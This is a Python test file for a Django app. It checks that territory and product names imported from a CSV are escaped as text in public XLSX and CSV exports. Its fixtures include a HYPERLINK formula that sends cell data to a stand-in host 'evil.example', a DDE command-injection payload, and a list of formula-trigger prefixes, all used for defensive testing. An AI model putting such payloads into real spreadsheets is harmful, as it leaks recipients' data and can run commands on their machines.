"""Names a coordinator imports from someone else's spreadsheet never run in a reader's: a
territory and a product written as formulas arrive in the public impact XLSX and CSV as text
(read back with openpyxl and csv from the downloads), while our own totals stay formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from django.test import Client
from openpyxl import load_workbook

from learnlink.alliance.models import Alliance
from tests.impact.conftest import signed_in

# No "/" in them: a territory's path is split at slashes.
TERRITORY = '=HYPERLINK(CONCATENATE("http:",CHAR(47),CHAR(47),"evil.example?leak=",B2),"Mwingi")'
PRODUCT = "@SUM(1+1)*cmd|' -c calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_imported_names_written_as_formulas_are_text_in_the_public_exports(
        kenya: Alliance, kenya_coordinator, tmp_path: Path) -> None:
    targets = tmp_path / "targets.csv"
    with targets.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([["territory", "target_households", "products"],
                                    [f"Kenya / Eastern / {TERRITORY}", "3000", PRODUCT]])
    with targets.open("rb") as upload:
        imported = signed_in(kenya_coordinator).post("/impact/ciat-crs-east-africa/import/",
                                                     {"file": upload})
    assert imported.status_code == 302

    book = load_workbook(io.BytesIO(
        Client().get("/impact/ciat-crs-east-africa/impact.xlsx").content))
    sheet = book["impact"]
    [row] = [row for row in sheet.iter_rows() if "evil.example" in str(row[0].value)]
    assert (row[0].data_type, row[0].value) == ("s", "'" + TERRITORY)
    assert row[2].value.startswith("'@SUM(1+1)")
    formulas = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas and all(str(f).startswith("=SUM(") for f in formulas)

    text = Client().get("/impact/ciat-crs-east-africa/impact.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + TERRITORY in cells
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
